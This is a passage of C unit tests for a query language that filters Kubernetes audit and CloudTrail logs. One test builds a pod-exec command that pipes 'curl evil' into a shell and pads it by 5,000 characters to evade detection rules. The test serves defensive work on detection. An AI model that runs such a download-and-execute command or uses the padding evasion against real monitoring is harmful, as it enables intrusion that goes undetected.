	k8a_expr_free(x);
	CHECK(k8a_expr_literals(NULL) == NULL);
}

/* Soundness: whenever an expression matches, the record's raw bytes hold
 * one of its literals (otherwise the prefilter would drop a match). */
K8A_TEST(expr_literals_are_sound)
{
	static const char *const exprs[] = {
		"verb=create", "verb=CreateAccessKey", "name=cluster-system-anonymous",
		"verb in (create, get)", "user=bob", "user=arn:aws:sts::111122223333:assumed-role/Admin/alice",
		"account=111122223333", "account^=1111222", "session=alice", "key=ASIAEXAMPLEKEY", "key=AKIAEXAMPLE",
		"ua=\"kubectl/v1.29.0 (linux/amd64) kubernetes/abc\"", "ua='aws-cli/2.15.0'",
		"reason='RBAC: allowed by ClusterRoleBinding \"admins\"'", "ip=10.0.0.5", "ip=203.0.113.8",
		"requestObject.subjects.name=system:anonymous", "groups=admins", "decision=allow",
		"annotations.\"authorization.k8s.io/decision\"=allow", "arn$=/alice", "name^=cluster-",
		"name*=system-anon", "service=iam.amazonaws.com", "region=us-east-1", "code=AccessDenied",
		"requestObject.flag^=tru", "responseStatus.code^=20", "uri^=/apis/rbac", "container=app",
		"as=system:serviceaccount:kube-system:default", "error=Forbidden", "peer=10.0.0.5",
		"requestParameters.userName=carol", "eventName=CreateAccessKey or verb=create",
		"canonicalarn=arn:aws:iam::111122223333:role/Admin", "principal=AIDAEXAMPLE",
	};
	const char *evs[3];
	size_t i, j, k;

	evs[0] = J(K8S_EV);
	evs[1] = J(CT_EV);
	evs[2] = J(EXEC_EV);
	for (i = 0; i < sizeof(exprs) / sizeof(exprs[0]); i++) {
		struct k8a_err err;
		k8a_expr *x = k8a_expr_compile(exprs[i], &err);
		const char *const *l;
		int matched = 0;
		if (!CHECK(x != NULL))
			continue;
		l = k8a_expr_literals(x); /* NULL for numbers, codes, synthesised fields */
		for (j = 0; j < 3; j++) {
			k8a_event *ev = t_event(evs[j]);
			size_t n;
			const char *raw;
			int found = 0;
			if (ev == NULL || k8a_expr_match(x, ev) != 1)
				continue;
			matched++;
			raw = k8a_event_raw(ev, &n);
			for (k = 0; l && l[k]; k++)
				found |= memmem(raw, n, l[k], strlen(l[k])) != NULL;
			if (l && !found)
				k8a_test_fail(__FILE__, __LINE__, "'%s' matches event %zu without its literals",
					exprs[i], j);
		}
		if (!matched)
			k8a_test_fail(__FILE__, __LINE__, "'%s' matches no event", exprs[i]);
		k8a_expr_free(x);
	}
}

K8A_TEST(expr_regex_details)
{
	CHECK_EQ_INT(mk("user~'(?i)^ARN:AWS:STS'"), 1);
	CHECK_EQ_INT(mk("user~'^ARN:AWS:STS'"), 0);
	CHECK_EQ_INT(mk("code~'^20'"), 1);
	CHECK_EQ_INT(mk("code~'^4'"), 0);
	CHECK_EQ_INT(mk("user.groups~'^adm'"), 1);
	CHECK_EQ_INT(mk("requestObject.subjects.name~'^system:m'"), 1);
	/* a regex is searched, not anchored */
	CHECK_EQ_INT(mk("ua~'linux'"), 1);
	/* the command of an exec may be any bytes */
	CHECK_EQ_INT(t_match("command~'zzz' or command=y",
		"{\"auditID\":\"x\",\"verb\":\"create\",\"requestURI\":"
		"\"/api/v1/namespaces/n/pods/p/exec?command=%ff%fe&command=%c3\"}"), 0);
	CHECK_EQ_INT(t_match("command exists and command*=' '",
		"{\"auditID\":\"x\",\"verb\":\"create\",\"requestURI\":"
		"\"/api/v1/namespaces/n/pods/p/exec?command=%ff%fe&command=%c3\"}"), 1);
}

K8A_TEST(expr_keywords_and_names)
{
	/* words that start like keywords are field names or values */
	CHECK_EQ_INT(t_match("order=1 or android=2 or notes=3 or index=4 or exists_x=5",
		"{\"auditID\":\"x\",\"verb\":\"get\",\"index\":4}"), 1);
	CHECK_EQ_INT(t_match("in=1", "{\"auditID\":\"x\",\"verb\":\"get\",\"in\":1}"), 1);
	CHECK_EQ_INT(mk("verb=and"), 0);
	CHECK_EQ_INT(mk("verb=create and(code=201)"), 1);
	CHECK_EQ_INT(mk("not(verb=get)"), 1);
	CHECK_EQ_INT(mk("!(verb=get)"), 1);
	CHECK_EQ_INT(mk("verb in(create)"), 1);
}

K8A_TEST(expr_time_equality_is_temporal)
{
	/* <, <=, >, >= on time compare instants, but = compares text
	 * (test_string OP_EQ, expr.c): the same instant written with an
	 * offset, or with fewer fraction digits, is not "equal", although
	 * time>=X and time<=X both hold. */
	CHECK_EQ_INT(mk("time>=2026-03-01T11:00:00.123456+01:00 and time<=2026-03-01T11:00:00.123456+01:00"), 1);
	CHECK_EQ_INT(mk("time=2026-03-01T11:00:00.123456+01:00"), 1);
	CHECK_EQ_INT(mc("time=2026-03-01T11:00:00.000Z"), 1);
}

K8A_TEST(expr_command_longer_than_4k)
{
	/* eval_pred() (expr.c) decodes the command into a 4096-byte buffer
	 * and matches the truncated text: padding the command hides its end
	 * from command*=, command~ and command= (an evasion of detection
	 * rules).  requestURIs of tens of KiB are accepted by the API server. */
	char *doc = t_alloc(20000), *p;
	size_t i;

	p = doc + sprintf(doc, "{\"auditID\":\"x\",\"verb\":\"create\",\"requestURI\":"
		"\"/api/v1/namespaces/n/pods/p/exec?command=sh&command=-c&command=");
	for (i = 0; i < 5000; i++)
		*p++ = '+';
	sprintf(p, "curl+evil%%7Csh&container=c\"}");
	CHECK_EQ_INT(t_match("command*='curl evil|sh'", doc), 1);
	CHECK_EQ_INT(t_match("command~'curl'", doc), 1);
}

/* What a column prints for a field (k8a_fieldref), an expression on that
 * field selects: for every alias, on records of both kinds, each value the
 * field has, written back as "alias = value", matches the record. */
struct rt {
	const char *alias;
	k8a_event *ev;
	int values, bad;
};

static int
round_trip_cb(json_t *v, void *arg)
{
	struct rt *rt = arg;
	char expr[8192], *text = NULL;
	const char *s, *q;
	k8a_expr *x;

	rt->values++;
	if (json_is_string(v)) {
		s = json_string_value(v);
		q = strchr(s, '\'') ? "\"" : "'";
		if (strchr(s, '\'') && strchr(s, '"'))
			return 0; /* no quoting for it in the language */
		snprintf(expr, sizeof(expr), "%s = %s%s%s", rt->alias, q, s, q);
	} else {
		text = json_dumps(v, JSON_ENCODE_ANY | JSON_COMPACT);
		snprintf(expr, sizeof(expr), "%s = %s", rt->alias, text ? text : "");
		free(text);
	}
	x = k8a_expr_compile(expr, NULL);
	if (x == NULL || k8a_expr_match(x, rt->ev) != 1) {
		k8a_test_fail(__FILE__, __LINE__, "%s does not select the record it was printed from", expr);
		rt->bad++;
	}
	k8a_expr_free(x);
	return 0;
}

K8A_TEST(field_round_trip)
{
	const char *const recs[] = { J(K8S_EV), J(CT_EV), J(EXEC_EV) };
	const char *const *al = k8a_field_aliases();
	size_t i, r;
	int values = 0;

	REQUIRE(al != NULL && al[0] != NULL);
	for (r = 0; r < sizeof(recs) / sizeof(recs[0]); r++) {
		for (i = 0; al[i]; i++) {
			k8a_fieldref *f = k8a_fieldref_new(al[i], NULL);
			struct rt rt = { al[i], t_event(recs[r]), 0, 0 };
			REQUIRE(f != NULL && rt.ev != NULL);
			CHECK_EQ_INT(k8a_fieldref_each(f, rt.ev, round_trip_cb, &rt), 0);
			values += rt.values;
			k8a_fieldref_free(f);
		}
	}
	CHECK(values > 60); /* the records give most aliases a value */
	/* the time column's text (RFC 3339, microseconds) selects too */
	{
		char t[64], expr[128];
		k8a_event *ev = t_event(J(CT_EV));
		k8a_expr *x;
		REQUIRE(ev != NULL);
		k8a_time_format(k8a_event_time(ev), t);
		snprintf(expr, sizeof(expr), "time = %s", t);
		x = k8a_expr_compile(expr, NULL);
		CHECK_EQ_INT(x ? k8a_expr_match(x, ev) : -1, 1);
		k8a_expr_free(x);
	}
	/* the action of a CloudTrail record is the IAM action */
	{
		k8a_fieldref *f = k8a_fieldref_new("action", NULL);
		json_t *v = f ? k8a_fieldref_value(f, t_event(J(CT_EV))) : NULL;
		CHECK_EQ_STR(json_string_value(v), "iam:CreateAccessKey");
		json_decref(v);
		k8a_fieldref_free(f);
	}
}

K8A_TEST(expr_is_address_kind)
{
	/* K8S_EV's sourceIPs: 203.0.113.7 (client, public), 10.0.0.5 (peer, private) */
	CHECK_EQ_INT(mk("ip is public"), 1);
	CHECK_EQ_INT(mk("peer is private"), 1);
	CHECK_EQ_INT(mk("peer is public"), 0);
	CHECK_EQ_INT(mk("not peer is public"), 1);
	CHECK_EQ_INT(mk("user is address"), 0);
	CHECK_EQ_INT(mk("absent.member is address"), 0);
	CHECK_EQ_INT(mc("ip is public"), 1);
	CHECK_EQ_INT(mc("sourceIPAddress is address"), 1);
	CHECK(k8a_expr_compile("ip is nowhere", NULL) == NULL);
	CHECK_EQ_INT(k8a_ip_class("203.0.113.7", 11), K8A_IP_PUBLIC);
	CHECK_EQ_INT(k8a_ip_class("100.64.1.1", 10), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("100.128.1.1", 11), K8A_IP_PUBLIC);
	CHECK_EQ_INT(k8a_ip_class("172.31.255.1", 12), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("172.32.0.1", 10), K8A_IP_PUBLIC);
	CHECK_EQ_INT(k8a_ip_class("169.254.169.254", 15), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("::1", 3), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("fd00:ec2::254", 13), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("fe80::1", 7), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("2600:1f18::1", 12), K8A_IP_PUBLIC);
	CHECK_EQ_INT(k8a_ip_class("::ffff:10.1.2.3", 15), K8A_IP_PRIVATE);
	CHECK_EQ_INT(k8a_ip_class("::ffff:8.8.8.8", 14), K8A_IP_PUBLIC);
	CHECK_EQ_INT(k8a_ip_class("eks.amazonaws.com", 17), K8A_IP_NONE);
	CHECK_EQ_INT(k8a_ip_class("10.0.0.1 ", 9), K8A_IP_NONE);
}
